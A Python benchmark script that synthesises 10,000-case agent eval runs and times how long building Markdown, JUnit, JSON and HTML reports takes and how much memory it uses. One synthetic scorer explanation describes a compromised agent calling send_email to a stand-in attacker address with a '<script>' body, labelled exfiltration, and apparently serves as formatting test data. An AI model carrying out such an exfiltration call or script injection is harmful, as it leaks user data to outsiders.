"""How long `agenteval report` takes, and how much memory, for a large eval run: 10,000 cases × 2 variants.

Synthesises an eval run and its baseline (another eval run of the same cases): per run 3-5 latest scores (status,
trajectory, output checks, an LLM judge with a 1-5 value on some cases, forbidden_calls on adversarial ones), some
failing, a few error rows, 2-4 tags per case, 0-4 tool calls per run, run statuses and durations. Then it measures,
in one process:

- build: ``case_results`` of both eval runs, ``operations`` of both, ``compare`` (outcomes, paired tests, per-scorer
  and per-tag statistics, the gate);
- each format: Markdown (``to_markdown``), JUnit XML (``to_junit``), JSON (``model_dump_json(indent=2)``, what
  ``--json`` prints) and HTML (``to_html``, when ``harness.reporting.html`` exists);
- wall time per phase and in total; memory as the process's peak resident set size (``ru_maxrss``: interpreter,
  pandas and the input frames included, what a CI runner sees) and the tracemalloc peak of the phases alone (a
  second pass with tracemalloc on, since tracing slows Python down: its times are not reported).

Default input: the ``frames`` that ``TraceStore.eval_run_frames`` returns (same columns and dtypes), built with
pandas. ``--store``: write the synthetic runs, scores and tool calls into a real DuckDB file (bulk inserts from
DataFrames, no spans) and time ``harness.api.build_report(..., baseline=...)`` end to end, store reads included.

Target: at most 5 s and 500 MB. Run from the project root:

    .venv/bin/python benchmarks/report_build.py [--cases 10000] [--epochs 1] [--store] [--json FILE]

A benchmark, not a test: figures vary with the machine. It always exits 0 and says whether the target was met.
"""

from __future__ import annotations

import argparse
import gc
import importlib.util
import json
import platform
import random
import resource
import sys
import tempfile
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

import harness.reporting.build as reporting
from harness.models.evals import EvalRunRecord
from harness.models.reports import Report
from harness.reporting.junit import to_junit
from harness.reporting.markdown import to_markdown

TARGET_S = 5.0
TARGET_MB = 500.0
VARIANTS = ("v1", "v2")
DATASETS = [f"support/{name}" for name in ("orders", "refunds", "billing", "shipping", "account", "adversarial")]
TAGS = [f"topic/{t}" for t in ("refund", "delay", "address", "invoice", "password", "cancel", "upgrade", "warranty")]
TAGS += ["lang/en", "lang/de", "lang/fr", "tier/gold", "tier/free", "channel/chat", "channel/email", "escalation"]
TOOLS = ["lookup_order", "search_kb", "issue_refund", "update_address", "escalate_to_human", "send_email"]
CHECKS = ["output_fields", "contains", "not_contains", "tool_call_count", "no_tool_calls"]
T0 = 1_767_225_600_000_000_000
MS = 1_000_000


def synthesise(cases: int, epochs: int, seed: int, eval_run_id: str, fail_rate: float) -> dict[str, pd.DataFrame]:
    """The ``runs``, ``scores`` and ``tool_calls`` frames of one eval run (columns of ``eval_run_frames`` plus the
    ones the store's tables need, which ``--store`` writes)."""
    rng = random.Random(seed)
    case_rng = random.Random(1)  # the same cases, tags and scorers in both eval runs; outcomes differ by seed
    runs: dict[str, list[Any]] = {k: [] for k in _RUN_COLUMNS}
    scores: dict[str, list[Any]] = {k: [] for k in _SCORE_COLUMNS}
    tools: dict[str, list[Any]] = {k: [] for k in _TOOL_COLUMNS}
    start = T0
    for index in range(cases):
        dataset = DATASETS[index % len(DATASETS)]
        adversarial = dataset.endswith("adversarial")
        tags = case_rng.sample(TAGS, case_rng.randint(2, 4)) + (["adversarial"] if adversarial else [])
        checks = case_rng.sample(CHECKS, case_rng.randint(1, 2))
        judged = case_rng.random() < 0.3
        hard = case_rng.random() < 0.15  # some cases fail more often, so regressions and fixes both happen
        for variant in VARIANTS:
            for epoch in range(1, epochs + 1):
                run_id = f"{seed:02d}{index:07d}{variant}{epoch:02d}".ljust(32, "0")
                failing = rng.random() < (fail_rate * 4 if hard else fail_rate / 2)
                status = "completed"
                if failing and rng.random() < 0.25:
                    status = rng.choice(["max_steps", "loop_detected", "error", "timeout"])
                elif rng.random() < 0.06:
                    status = "escalated"
                duration = int(rng.lognormvariate(7.0, 0.6) * MS)  # ~1.1 s median, a long tail
                calls = rng.randint(0, 4)
                _append(
                    runs,
                    run_id=run_id,
                    trace_id=run_id,
                    dataset=dataset,
                    case_id=f"{dataset.split('/')[1]}/case-{index:05d}",
                    variant=variant,
                    epoch=epoch,
                    status=status,
                    tags=tags,
                    model="mock-gpt",
                    start_ns=start,
                    end_ns=start + duration,
                    steps=calls + 1,
                    input_tokens=rng.randint(800, 6_000),
                    output_tokens=rng.randint(40, 600),
                    retries=int(rng.random() < 0.03),
                    eval_run_id=eval_run_id,
                    tool_calls=calls,
                )
                start += duration // 8
                for seq in range(calls):
                    _append(
                        tools,
                        run_id=run_id,
                        tool_name=rng.choice(TOOLS),
                        is_error=rng.random() < 0.03,
                        span_id=f"{run_id[:24]}{seq:08d}",
                        trace_id=run_id,
                        seq=seq,
                        start_ns=start,
                        end_ns=start + 5 * MS,
                    )
                rows = _scores(rng, status, failing, adversarial, checks, judged, case_index=index)
                for scorer, source, passed, value, label, explanation, error_type in rows:
                    _append(
                        scores,
                        run_id=run_id,
                        scorer=scorer,
                        source=source,
                        passed=passed,
                        value=value,
                        label=label,
                        explanation=explanation,
                        error_type=error_type,
                        score_id=f"{run_id}-{scorer}",
                        eval_run_id=eval_run_id,
                        created_ns=start,
                    )
    return {
        "runs": pd.DataFrame(runs),
        "scores": pd.DataFrame(scores),
        "tool_calls": pd.DataFrame(tools),
    }


_RUN_COLUMNS = [
    "run_id",
    "dataset",
    "case_id",
    "variant",
    "epoch",
    "status",
    "tags",
    "model",
    "start_ns",
    "end_ns",
    "steps",
    "input_tokens",
    "output_tokens",
    "retries",
    "trace_id",
    "eval_run_id",
    "tool_calls",
]
_SCORE_COLUMNS = [
    "run_id",
    "scorer",
    "source",
    "passed",
    "value",
    "label",
    "explanation",
    "error_type",
    "score_id",
    "eval_run_id",
    "created_ns",
]
_TOOL_COLUMNS = ["run_id", "tool_name", "is_error", "span_id", "trace_id", "seq", "start_ns", "end_ns"]
_FRAME_COLUMNS = {
    "runs": _RUN_COLUMNS[:14],
    "scores": _SCORE_COLUMNS[:8],
    "tool_calls": _TOOL_COLUMNS[:3],
}


def _append(columns: dict[str, list[Any]], **row: Any) -> None:
    for key, value in row.items():
        columns[key].append(value)


def _scores(
    rng: random.Random, status: str, failing: bool, adversarial: bool, checks: list[str], judged: bool, case_index: int
) -> list[tuple[str, str, bool | None, float | None, str | None, str, str | None]]:
    ok = status in ("completed", "escalated")
    rows: list[tuple[str, str, bool | None, float | None, str | None, str, str | None]] = [
        ("status", "deterministic", ok, None, status, f"ended {status}", None)
    ]
    broken = failing and ok  # a failing run that ended well fails on a scorer instead
    if adversarial:
        compromised = broken and rng.random() < 0.5
        rows.append(
            (
                "forbidden_calls",
                "deterministic",
                not compromised,
                None,
                "compromised" if compromised else "safe",
                "forbidden call send_email({'to': 'attacker@evil.example', 'body': \"<script>x</script>\"}) ran "
                "(exfiltration)"
                if compromised
                else "no forbidden call was made",
                None,
            )
        )
        broken = broken and not compromised
    else:
        miss = broken and rng.random() < 0.6
        rows.append(
            (
                "trajectory",
                "deterministic",
                not miss,
                None,
                None,
                '1/2 expected tool calls matched (subset), 3 made: missing escalate_to_human({"order_id": '
                f'"A{case_index:05d}"}})'
                if miss
                else "2/2 expected tool calls matched (subset)",
                None,
            )
        )
        broken = broken and not miss
    for check in checks:
        bad = broken and rng.random() < 0.7
        broken = broken and not bad
        rows.append((check, "deterministic", not bad, None, None, f"{check}: {'mismatch' if bad else 'ok'}", None))
    if judged:
        if rng.random() < 0.01:  # the judge's provider failed: an error row, passed NULL
            rows.append(("judge", "llm", None, None, None, "judge call failed", "APITimeoutError"))
        else:
            score = rng.randint(1, 2) if broken else rng.randint(3, 5)
            why = "The answer promises a refund the agent never issued & cites order <b>A1</b> — “unsupported”."
            rows.append(("judge", "llm", score >= 3, float(score), str(score), why if score < 3 else "grounded", None))
    return rows


def frames_of(full: dict[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    """Only the columns ``TraceStore.eval_run_frames`` returns, in its row order."""
    runs = full["runs"].sort_values(["dataset", "case_id", "variant", "epoch"], kind="stable")
    scores = full["scores"].sort_values(["run_id", "created_ns", "scorer"], kind="stable")
    return {
        "runs": runs[_FRAME_COLUMNS["runs"]].reset_index(drop=True),
        "scores": scores[_FRAME_COLUMNS["scores"]].reset_index(drop=True),
        "tool_calls": full["tool_calls"][_FRAME_COLUMNS["tool_calls"]],
    }


# -- the store (--store) ---------------------------------------------------------------------------------------------


def write_store(path: Path, runs: dict[str, dict[str, pd.DataFrame]]) -> None:
    """Write eval runs into a fresh store: ``eval_runs`` rows, then runs, scores and tool calls in bulk."""
    from harness.traces import TraceStore

    store = TraceStore(path)
    for eval_run_id in runs:
        store.write_eval_run(_record(eval_run_id))
    import duckdb

    con = duckdb.connect(str(path))
    try:
        for eval_run_id, full in runs.items():
            r = full["runs"].assign(
                kind="eval_case",
                agent_name="support",
                prompt_version=full["runs"]["variant"],
                input="Where is my order?",
                llm_calls=full["runs"]["steps"],
                tool_errors=0,
                security_events=0,
                mode="live",
                case_id=full["runs"]["case_id"],
            )
            s = full["scores"].assign(
                scoring_id=f"scoring-{eval_run_id}",
                dataset=None,
                version="1",
            )
            t = full["tool_calls"]
            con.register("r_df", r)
            con.register("s_df", s)
            con.register("t_df", t)
            con.execute("INSERT INTO runs BY NAME SELECT * FROM r_df")
            con.execute("INSERT INTO scores BY NAME SELECT * FROM s_df")
            con.execute("INSERT INTO tool_calls BY NAME SELECT * FROM t_df")
            for name in ("r_df", "s_df", "t_df"):
                con.unregister(name)
    finally:
        con.close()


def _record(eval_run_id: str) -> EvalRunRecord:
    return EvalRunRecord(
        eval_run_id=eval_run_id,
        status="completed",
        started_ns=T0,
        finished_ns=T0 + 3_600 * 10**9,
        agent="support",
        datasets=[],
        variants=[],
    )


# -- measuring -------------------------------------------------------------------------------------------------------


def phases(
    build: Callable[[], Report],
) -> list[tuple[str, Callable[[dict[str, Any]], Any]]]:
    """(name, step) pairs; each step reads and writes a shared dict (the report, the outputs)."""

    def build_step(state: dict[str, Any]) -> None:
        state["report"] = build()

    found: list[tuple[str, Callable[[dict[str, Any]], Any]]] = [
        ("build (case results, operations, compare)", build_step),
        ("markdown", lambda s: s.__setitem__("markdown", to_markdown(s["report"]))),
        ("junit", lambda s: s.__setitem__("junit", to_junit(s["report"]))),
        ("json", lambda s: s.__setitem__("json", s["report"].model_dump_json(indent=2))),
    ]
    if importlib.util.find_spec("harness.reporting.html") is not None:
        from harness.reporting.html import to_html

        found.append(("html", lambda s: s.__setitem__("html", to_html(s["report"]))))
    return found


def run_phases(steps: list[tuple[str, Callable[[dict[str, Any]], Any]]]) -> tuple[dict[str, float], dict[str, Any]]:
    state: dict[str, Any] = {}
    times: dict[str, float] = {}
    for name, step in steps:
        gc.collect()
        began = time.perf_counter()
        step(state)
        times[name] = time.perf_counter() - began
    return times, state


class Stopwatch:
    """Time spent in a function of harness.reporting.build, by wrapping it (same arguments, same result)."""

    def __init__(self, name: str) -> None:
        import harness.reporting.build as build

        self.seconds = 0.0
        self._module, self._name, self._original = build, name, getattr(build, name)

        def timed(*args: Any, **kwargs: Any) -> Any:
            began = time.perf_counter()
            try:
                return self._original(*args, **kwargs)
            finally:
                self.seconds += time.perf_counter() - began

        setattr(build, name, timed)

    def restore(self) -> float:
        setattr(self._module, self._name, self._original)
        return self.seconds


def rss_mb() -> float:
    """Peak resident set size of this process so far (ru_maxrss is KiB on Linux, bytes on macOS)."""
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak / 1024 / (1024 if sys.platform == "darwin" else 1)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--cases", type=int, default=10_000, help="cases per variant (2 variants)")
    parser.add_argument("--epochs", type=int, default=1)
    parser.add_argument("--store", action="store_true", help="through a real DuckDB store and api.build_report")
    parser.add_argument("--json", type=Path, default=None, help="also write the figures here")
    args = parser.parse_args()

    began = time.perf_counter()
    now = synthesise(args.cases, args.epochs, seed=2, eval_run_id="ev-now", fail_rate=0.12)
    before = synthesise(args.cases, args.epochs, seed=1, eval_run_id="ev-base", fail_rate=0.10)
    made = time.perf_counter() - began
    rows = {name: len(now[name]) + len(before[name]) for name in now}
    print(
        f"synthesised in {made:.1f} s (not counted): {args.cases:,} cases × {len(VARIANTS)} variants × "
        f"{args.epochs} epoch(s), two eval runs: {rows['runs']:,} runs, {rows['scores']:,} scores, "
        f"{rows['tool_calls']:,} tool calls"
    )
    tmp = tempfile.TemporaryDirectory(prefix="agenteval-bench-")
    if args.store:
        from harness import api

        db = Path(tmp.name) / "traces.duckdb"
        began = time.perf_counter()
        write_store(db, {"ev-now": now, "ev-base": before})
        print(f"store written in {time.perf_counter() - began:.1f} s (not counted): {db}")
        del now, before

        def build() -> Report:
            return api.build_report("ev-now", baseline="ev-base", fail_on="never", db=db)

        mode = "store: api.build_report (reads the DuckDB store) + formats"
    else:
        current, baseline = frames_of(now), frames_of(before)
        record = _record("ev-now")

        def build() -> Report:
            # Through the module's attributes, so that the stopwatches see these calls.
            ops = reporting.operations(current, {})
            return reporting.compare(
                record,
                reporting.case_results(current),
                reporting.case_results(baseline),
                ops=ops,
                baseline_ops=reporting.operations(baseline, {}),
                baseline_label="eval run ev-base",
                fail_on="never",
            )

        mode = "frames: case_results/operations/compare from eval_run_frames-shaped DataFrames + formats"
    gc.collect()
    rss_before = rss_mb()
    steps = phases(build)
    watches = {name: Stopwatch(name) for name in ("case_results", "operations", "paired_bootstrap")}
    times, state = run_phases(steps)
    total = sum(times.values())
    rss_peak = rss_mb()
    inside = {name: watch.restore() for name, watch in watches.items()}
    sizes = {name: len(state[name]) for name in ("markdown", "junit", "json", "html") if name in state}
    report: Report = state["report"]
    del state
    gc.collect()
    tracemalloc.start()
    run_phases(steps)
    _, traced_peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    traced_mb = traced_peak / 2**20

    print(f"mode: {mode}")
    print(f"report: {len(report.cases):,} case changes, {len(report.scorers)} scorer rows, {len(report.tags)} tag rows")
    for name, seconds in times.items():
        size = next((f"{sizes[k] / 1e6:6.1f} MB out" for k in sizes if name.startswith(k)), "")
        print(f"  {name:<44}{seconds:>7.2f} s   {size}")
        if name.startswith("build"):
            for part, spent in inside.items():
                print(f"    of which {part:<34}{spent:>7.2f} s")
    if "html" not in sizes:
        print("  html: harness.reporting.html not present, not measured")
    print(f"  {'total':<44}{total:>7.2f} s")
    print(f"peak RSS of the process: {rss_peak:,.0f} MB ({rss_before:,.0f} MB before building: interpreter + inputs)")
    print(f"tracemalloc peak of the phases (second pass): {traced_mb:,.0f} MB")
    met_time, met_memory = total <= TARGET_S, max(rss_peak, traced_mb) <= TARGET_MB
    verdict = "met" if met_time and met_memory else "NOT met"
    print(
        f"target ≤ {TARGET_S:g} s and ≤ {TARGET_MB:g} MB: {verdict} "
        f"(time {'ok' if met_time else 'over'}, memory {'ok' if met_memory else 'over'})"
    )
    if args.json is not None:
        figures = {
            "benchmark": "report_build",
            "mode": "store" if args.store else "frames",
            "cases": args.cases,
            "variants": len(VARIANTS),
            "epochs": args.epochs,
            "rows": rows,
            "seconds": {name: round(s, 4) for name, s in times.items()},
            "total_s": round(total, 4),
            "build_parts_s": {name: round(spent, 4) for name, spent in inside.items()},
            "output_bytes": sizes,
            "peak_rss_mb": round(rss_peak, 1),
            "rss_before_build_mb": round(rss_before, 1),
            "tracemalloc_peak_mb": round(traced_mb, 1),
            "target": {"seconds": TARGET_S, "mb": TARGET_MB, "met": met_time and met_memory},
            "python": platform.python_version(),
            "machine": platform.machine(),
        }
        args.json.parent.mkdir(parents=True, exist_ok=True)
        args.json.write_text(json.dumps(figures, indent=2) + "\n", encoding="utf-8")
    tmp.cleanup()


if __name__ == "__main__":
    main()
